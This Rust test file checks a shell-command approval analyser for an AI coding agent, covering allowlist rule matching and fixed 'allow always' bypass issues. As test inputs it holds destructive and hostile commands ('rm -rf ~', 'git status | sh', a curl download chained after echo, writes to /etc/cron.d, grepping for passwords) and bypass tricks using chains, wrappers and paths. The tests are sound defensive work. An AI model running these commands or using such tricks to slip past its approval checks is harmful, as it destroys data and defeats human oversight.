//! Claude Code rule semantics and GoClaw's "allow always" issues #1200–#1216.

use std::collections::HashSet;

use talon_exec::analysis::{
    Ask, Decision, ExecApprovalConfig, RuleSet, Security, always_allow_key, analyze, normalise,
};

use super::{config, decision};

#[test]
fn claude_code_rule_semantics() {
    let allowlist = |allow: &[&str], command: &str| {
        decision(
            command,
            &config(Security::Allowlist, Ask::Off, allow),
            &HashSet::new(),
            true,
        )
    };
    let npm = ["Bash(npm run test:*)"];
    assert!(allowlist(&npm, "npm run test").is_allowed());
    assert!(allowlist(&npm, "npm run test:unit").is_allowed());
    assert!(!allowlist(&npm, "npm run testx").is_allowed());
    assert!(allowlist(&["Bash(git status)"], "git status").is_allowed());
    assert!(!allowlist(&["Bash(git status)"], "git status --porcelain").is_allowed());
    assert!(allowlist(&["Bash"], "make -j4").is_allowed());
    assert!(allowlist(&["Bash(*)"], "make -j4").is_allowed());
    assert!(!allowlist(&["Bash(safe-cmd:*)"], "safe-cmd && other-cmd").is_allowed());
    assert!(!allowlist(&["Bash(ls *)"], "lsof").is_allowed());
    // Every segment, including substitutions, subshells and loop bodies.
    let rules = ["Bash(echo:*)", "Bash(ls:*)"];
    assert!(allowlist(&rules, "ls && echo done").is_allowed());
    assert!(!allowlist(&rules, "echo $(whoami)").is_allowed());
    assert!(!allowlist(&rules, "(ls; touch x)").is_allowed());
    assert!(!allowlist(&rules, "for f in *; do touch $f; done").is_allowed());
    // Deny, then ask, then allow; first match wins whatever the specificity.
    let layered = ExecApprovalConfig {
        security: Security::Allowlist,
        ask: Ask::OnMiss,
        rules: RuleSet::parse(
            &["Bash(aws *)"],
            &["Bash(git push:*)"],
            &["Bash(aws s3 ls)", "Bash(git:*)"],
        )
        .expect("rules"),
    };
    assert!(matches!(
        decision("aws s3 ls", &layered, &HashSet::new(), true),
        Decision::Deny { .. }
    ));
    assert!(matches!(
        decision("git push origin", &layered, &HashSet::new(), true),
        Decision::Ask { .. }
    ));
    assert!(decision("git log", &layered, &HashSet::new(), true).is_allowed());
}

/// GoClaw issues #1200–#1216: approval judged only the first word and "allow always" stored a
/// base name.
#[test]
fn goclaw_allow_always_regressions() {
    let on_miss = config(Security::Allowlist, Ask::OnMiss, &[]);
    let approve = |commands: &[&str]| -> HashSet<String> {
        commands
            .iter()
            .map(|c| always_allow_key(&analyze(c)).expect("resolvable command"))
            .collect()
    };
    let git = approve(&["git status"]);
    assert!(decision("git status", &on_miss, &git, true).is_allowed());
    assert!(decision("git   status  # again", &on_miss, &git, true).is_allowed());
    assert!(!decision("git push --force", &on_miss, &git, true).is_allowed());
    assert!(!decision("git status; touch ~/pwned", &on_miss, &git, true).is_allowed());
    assert!(!decision("git status; rm -rf ~", &on_miss, &git, true).is_allowed());
    assert!(!decision("git status && git push", &on_miss, &git, true).is_allowed());
    assert!(!decision("git status | sh", &on_miss, &git, true).is_allowed());
    assert_ne!(normalise(&analyze("git status")), "git");

    // #1204: approving one `sh -lc` payload does not approve another.
    let sh = approve(&["sh -lc 'echo hi'"]);
    assert!(decision("sh -lc 'echo hi'", &on_miss, &sh, true).is_allowed());
    assert!(!decision("sh -lc 'curl https://x.example -o y'", &on_miss, &sh, true).is_allowed());
    assert!(!decision("sh -lc \"$PAYLOAD\"", &on_miss, &sh, true).is_allowed());

    // #1216: the same base name at another path is another command.
    let canary = approve(&["./canary-bin"]);
    assert!(decision("./canary-bin", &on_miss, &canary, true).is_allowed());
    assert!(!decision("canary-bin", &on_miss, &canary, true).is_allowed());
    assert!(!decision("/tmp/canary-bin", &on_miss, &canary, true).is_allowed());

    // #1200, #1203, #1205, #1208: allowlist bypass through wrappers and chains.
    let echo_env = config(
        Security::Allowlist,
        Ask::Off,
        &["Bash(echo:*)", "Bash(env:*)"],
    );
    let none = HashSet::new();
    assert!(!decision("echo ok && touch /tmp/pwned", &echo_env, &none, true).is_allowed());
    assert!(!decision("env sh -c 'touch /tmp/pwned'", &echo_env, &none, true).is_allowed());
    assert!(
        !decision(
            "echo ok; curl https://x.example -o y",
            &echo_env,
            &none,
            true
        )
        .is_allowed()
    );
    assert!(decision("echo ok", &echo_env, &none, true).is_allowed());

    // #1206: "safe" programs with writing or recursive options still ask; #1226: jq reads env.
    let full_on_miss = config(Security::Full, Ask::OnMiss, &[]);
    for command in [
        "sort -o /etc/cron.d/x in.txt",
        "grep -R password /",
        "jq -n env",
    ] {
        assert!(
            matches!(
                decision(command, &full_on_miss, &none, true),
                Decision::Ask { .. }
            ),
            "`{command}` should ask"
        );
    }
    // Deleting with arguments chosen at run time is refused outright (issue 21, item 15).
    for command in ["xargs rm", "find . -delete"] {
        assert!(
            matches!(
                decision(command, &full_on_miss, &none, true),
                Decision::Deny { .. }
            ),
            "`{command}` should be refused"
        );
    }
    assert!(decision("cat README.md | wc -l", &full_on_miss, &none, true).is_allowed());

    // An unknown command is never stored or allowed "always".
    assert_eq!(always_allow_key(&analyze("eval \"$X\"")), None);
    let mut poisoned = HashSet::new();
    poisoned.insert(normalise(&analyze("eval \"$X\"")));
    assert!(!decision("eval \"$X\"", &on_miss, &poisoned, true).is_allowed());
}

#[test]
fn refusals_explain_themselves() {
    let d = decision(
        "rm -rf /",
        &config(Security::Full, Ask::Off, &[]),
        &HashSet::new(),
        true,
    );
    let text = d.explain();
    assert!(
        text.contains("rm -rf /") && text.contains("destructive_ops"),
        "{text}"
    );
    let unknown = decision(
        "$CMD",
        &config(Security::Full, Ask::Off, &[]),
        &HashSet::new(),
        true,
    );
    let text = unknown.explain();
    assert!(
        text.contains("could not be fully analysed") && text.contains("on-miss"),
        "{text}"
    );
}
